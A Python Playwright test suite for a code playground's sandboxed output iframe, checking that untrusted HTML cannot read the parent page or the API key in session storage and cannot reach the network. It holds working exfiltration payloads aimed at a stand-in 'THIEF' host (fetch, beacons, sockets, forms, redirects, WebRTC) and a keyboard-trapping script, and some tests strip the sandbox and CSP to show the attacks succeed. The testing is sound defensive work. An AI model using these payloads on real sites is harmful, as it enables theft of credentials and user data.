"""HTML that untrusted code puts out, against the playground, the key in it, and the network that it is seen from."""

import asyncio
import json
import re
from collections.abc import AsyncIterator, Awaitable, Callable

import pytest
from playwright.async_api import Page, Route, expect
from typing_extensions import override

from tests.conftest import Service
from tests.web.conftest import OpenPage, answering

TO_THE_PAGE = """
<p id="mark">shown</p>
<script>
const results = {};
const attempt = (name, action) => {
  try { results[name] = "reached: " + action(); } catch (error) { results[name] = "refused"; }
};
attempt("page", () => parent.document.title);
attempt("session storage", () => parent.sessionStorage.getItem("tci-key"));
attempt("local storage", () => localStorage.length);
attempt("own session storage", () => sessionStorage.getItem("tci-key"));
attempt("cookies", () => document.cookie);
attempt("top", () => { top.location = "/static/icon.svg?gone"; return "moved"; });
(async () => {
  results.fetch = await fetch("/health").then(() => "reached", () => "refused");
  results.popup = window.open("/health") ? "reached" : "refused";
  results.image = await new Promise((done) => {
    const image = new Image();
    image.onload = () => done("reached");
    image.onerror = () => done("refused");
    image.src = "/static/icon.svg";
  });
  document.querySelector("#mark").textContent = JSON.stringify(results);
})();
</script>
"""

RTC = """
const peer = new RTCPeerConnection({ iceServers: [
  { urls: "stun:127.0.0.1:PORT" }, { urls: "turn:127.0.0.1:PORT?transport=tcp", username: "secret", credential: "x" },
] });
peer.createDataChannel("x");
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
"""

TO_THE_NETWORK = {
    "fetch": "<script>fetch('THIEF', { mode: 'no-cors' })</script>",
    "beacon": "<script>navigator.sendBeacon('THIEF', 'secret')</script>",
    "socket": "<script>new WebSocket('THIEF'.replace('http', 'ws'))</script>",
    "image": "<img src='THIEF'><video poster='THIEF'></video><svg><image href='THIEF'/></svg>",
    "styles": "<link rel=stylesheet href='THIEF'><style>@import 'THIEF'; p { background: url('THIEF') }</style><p>",
    "script": "<script src='THIEF'></script><script>import('THIEF')</script><link rel=modulepreload href='THIEF'>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([`importScripts('THIEF')`])))</script>",
    "hints": "<link rel=preconnect href='THIEF'><link rel=prefetch href='THIEF'><link rel=prerender href='THIEF'>",
    "frames": "<iframe src='THIEF'></iframe><object data='THIEF'></object><embed src='THIEF'>",
    "frame of its own": "<iframe srcdoc=\"<script>new Image().src = 'THIEF'; location = 'THIEF'</script>\"></iframe>",
    "form": "<form id=form method=post action='THIEF'><input name=a></form><script>form.submit()</script>",
    "form above": "<form id=form target=_top action='THIEF'></form><script>form.submit()</script>",
    "refresh": "<meta http-equiv=refresh content='0;THIEF'>",
    "location": "<script>location = 'THIEF'</script>",
    "download": "<a id=link download href='THIEF'>x</a><script>link.click()</script>",
    "ping": "<a id=link href='#x' ping='THIEF'>x</a><script>link.click()</script>",
    "window": "<a id=link target=_blank href='THIEF'>x</a><script>link.click(); open('THIEF')</script>",
    "WebRTC": f"<script>{RTC}</script>",
    "WebRTC below": f"<iframe srcdoc='<script>{RTC}</script>'></iframe>",
}


class Thief(asyncio.DatagramProtocol):
    """A host elsewhere. Whoever connects has given something away."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.port = 0

    @override
    def datagram_received(self, data: bytes, addr: object) -> None:
        self.heard.append("UDP")

    async def on_connection(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.heard.append("TCP")
        line = await reader.readline()
        self.heard.append(line.decode("latin-1").split(" HTTP")[0])
        writer.close()


@pytest.fixture
async def thief() -> AsyncIterator[Thief]:
    thief = Thief()
    server = await asyncio.start_server(thief.on_connection, "127.0.0.1", 0)
    thief.port = server.sockets[0].getsockname()[1]
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(lambda: thief, local_addr=("127.0.0.1", thief.port))
    async with server:
        yield thief
    transport.close()


def putting_out(*outputs: str) -> Callable[[Page], Awaitable[None]]:
    """Make a page's runs answer with HTML."""
    return answering(*({"type": "display_data", "data": {"text/html": html}} for html in outputs))


async def without_defences(page: Page) -> None:
    """Take away what keeps the frame apart."""

    async def bare_script(route: Route) -> None:
        answer = await route.fetch()
        body = (await answer.text()).replace('frame.setAttribute("sandbox", "allow-scripts");', "")
        await route.fulfill(response=answer, body=body)

    async def bare(route: Route) -> None:
        answer = await route.fetch()
        gone = {"content-security-policy", "connection-allowlist"}
        headers = {name: value for name, value in answer.headers.items() if name not in gone}
        body = (await answer.text()).replace("delete globalThis[name]", "")
        await route.fulfill(response=answer, headers=headers, body=body)

    await page.route("**/static/output.html", bare)
    await page.route(re.compile(r":\d+/$"), bare)
    await page.route("**/static/outputs.js", bare_script)


async def run(page: Page, key: str) -> None:
    await page.get_by_label("API key").fill(key)
    await page.get_by_role("button", name=re.compile("^Run")).click()
    await expect(page.locator("#verdict")).to_be_visible()


async def test_output_reaches_neither_page_nor_key(open_page: OpenPage, live_service: Service) -> None:
    page = await open_page("/", prepare=putting_out(TO_THE_PAGE))
    address = page.url
    await run(page, live_service.key)
    mark = page.frame_locator("#outputs iframe").locator("#mark")
    await expect(mark).to_contain_text("refused")
    results = json.loads(await mark.text_content() or "")
    assert len(results) == 9
    assert set(results.values()) == {"refused"}
    assert page.url == address
    assert len(page.context.pages) == 1


async def test_output_without_the_defences_reaches_the_key(open_page: OpenPage, live_service: Service) -> None:
    """The attacks work where nothing stops them, so that their refusal above says something."""
    attack = putting_out(TO_THE_PAGE.replace('attempt("top"', 'false && attempt("top"'))

    async def prepare(page: Page) -> None:
        await attack(page)
        await without_defences(page)

    page = await open_page("/", prepare=prepare)
    await run(page, live_service.key)
    mark = page.frame_locator("#outputs iframe").locator("#mark")
    await expect(mark).to_contain_text("reached")
    results = json.loads(await mark.text_content() or "")
    assert results["session storage"] == f"reached: {live_service.key}"
    assert {results["fetch"], results["image"]} == {"reached"}


def attacks_on(thief: Thief, names: list[str]) -> list[str]:
    address = f"http://127.0.0.1:{thief.port}/"
    return [
        TO_THE_NETWORK[name].replace("THIEF", f"{address}{number}").replace("PORT", str(thief.port))
        for number, name in enumerate(names)
    ]


async def test_output_reaches_no_network_by_any_way(free_page: Page, live_service: Service, thief: Thief) -> None:
    await putting_out(*attacks_on(thief, list(TO_THE_NETWORK)))(free_page)
    await free_page.goto(live_service.url)
    address = free_page.url
    await run(free_page, live_service.key)
    await expect(free_page.locator("#outputs iframe")).to_have_count(len(TO_THE_NETWORK))
    await asyncio.sleep(2)
    assert thief.heard == []
    assert free_page.url == address
    assert len(free_page.context.pages) == 1


async def test_output_without_the_defences_reaches_the_network(
    free_page: Page, live_service: Service, thief: Thief
) -> None:
    """The thief hears of the ways that CSP knows, and of the one that it does not."""
    await putting_out(*attacks_on(thief, ["fetch", "image", "location", "form", "WebRTC below"]))(free_page)
    await without_defences(free_page)
    await free_page.goto(live_service.url)
    await run(free_page, live_service.key)
    async with asyncio.timeout(30):
        while not {"GET /0", "GET /1", "GET /2", "POST /3", "UDP"} <= set(thief.heard):  # noqa: ASYNC110
            await asyncio.sleep(0.1)


async def test_output_that_takes_the_keyboard_is_removed(open_page: OpenPage, live_service: Service) -> None:
    page = await open_page(
        "/", prepare=putting_out("<input id=trap><script>setInterval(() => trap.focus(), 20)</script>", "<p>kept</p>")
    )
    await run(page, live_service.key)
    field = page.get_by_label("API key")
    await field.click(click_count=3)
    await page.keyboard.type("tci_another_key", delay=40)
    await expect(field).to_have_value("tci_another_key")
    await expect(page.locator("#outputs .error")).to_contain_text("took the keyboard")
    await expect(page.locator("#outputs iframe")).to_have_count(1)


async def test_output_with_a_field_takes_what_is_typed_into_it(open_page: OpenPage, live_service: Service) -> None:
    page = await open_page("/", prepare=putting_out("<input aria-label=within>"))
    await run(page, live_service.key)
    within = page.frame_locator("#outputs iframe").get_by_label("within")
    await within.click()
    await page.keyboard.type("typed")
    await expect(within).to_have_value("typed")
